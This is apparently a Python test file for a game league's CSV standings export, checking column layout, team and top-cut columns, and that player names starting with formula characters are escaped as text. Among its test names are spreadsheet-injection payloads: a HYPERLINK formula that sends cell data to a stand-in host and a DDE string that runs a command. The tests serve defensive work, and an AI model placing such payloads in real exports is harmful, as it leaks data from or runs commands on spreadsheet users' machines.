"""The standings as CSV (game/league/export.py): the columns a spreadsheet gets, and names that a
spreadsheet would run as a formula written as text."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from game.league.export import HEADER, neutral, standings_csv
from game.league.standings import StandingRow


def _row(name: str, rank: int = 1, **kw: object) -> StandingRow:
    base: dict[str, object] = dict(rank=rank, member=str(rank), name=name, played=3, wins=2.5, losses=0, draws=1,
                                   margin=-4, opponents_wins=3.5, rating=-1.234, forfeits=0, dropped=False)
    base.update(kw)
    return StandingRow(**base)  # type: ignore[arg-type]


def test_each_column_as_a_spreadsheet_reads_it() -> None:
    text = standings_csv([_row("Ann"), _row("Bob, the bold", rank=2, forfeits=1, dropped=True, wins=0.0, margin=7)])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(HEADER)
    assert rows[1] == ["1", "Ann", "2.5", "1", "0", "0", "-4", "3.5", "-1.23", "no"]
    assert rows[2] == ["2", "Bob, the bold", "0", "1", "0", "1", "7", "3.5", "-1.23", "yes"]  # quoted comma


def test_names_a_spreadsheet_would_run_are_written_as_text() -> None:
    names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
             "\t=1", "\r=1"]
    rows = list(csv.reader(io.StringIO(standings_csv([_row(n, rank=i + 1) for i, n in enumerate(names)]),
                           newline="")))
    assert [r[1] for r in rows[1:]] == ["'" + n for n in names]
    assert neutral("Ann = Bob") == "Ann = Bob"  # only a leading sign is a formula


@given(st.text(max_size=40))
def test_no_name_cell_ever_begins_a_formula(name: str) -> None:
    (cell,) = [r[1] for r in list(csv.reader(io.StringIO(standings_csv([_row(name)]), newline="")))[1:]] or [""]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_team_leagues_file_names_both_members_after_the_team() -> None:
    from game.league.export import header

    text = standings_csv([_row("Red", member="1"), _row("=Blue", rank=2, member="2")],
                         members={"1": ("Ann", "Bob"), "2": ("@Cy", "Dee")})
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(header(teams=True)) == ["rank", "name", "member_1", "member_2", *HEADER[2:]]
    assert rows[1][:4] == ["1", "Red", "Ann", "Bob"] and rows[2][:4] == ["2", "'=Blue", "'@Cy", "Dee"]
    assert rows[1][4:] == ["2.5", "1", "0", "0", "-4", "3.5", "-1.23", "no"]


def test_a_top_cut_adds_each_entrants_seed_and_how_far_they_went() -> None:
    from game.league.bracket import Match, reached

    shown = [[Match(1, "1", "4", "1"), Match(1, "2", "3", "3")], [Match(2, "1", "3", "3")]]
    went = reached(shown)
    assert went == {"3": "champion", "1": "final", "2": "semi-finals", "4": "semi-finals"}
    cut = {m: (int(m), went[m]) for m in "1234"}
    text = standings_csv([_row(f"P{i}", rank=i, member=str(i)) for i in (1, 2, 3, 4, 5)], cut=cut)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][-2:] == ["seed", "top_cut"] and rows[0][:-2] == list(HEADER)
    assert [r[-2:] for r in rows[1:]] == [["1", "final"], ["2", "semi-finals"], ["3", "champion"],
                                          ["4", "semi-finals"], ["", ""]]  # the fifth was not in the cut
    assert reached([[Match(1, "1", "2", None)]]) == {"1": "final", "2": "final"}  # not played yet: no champion
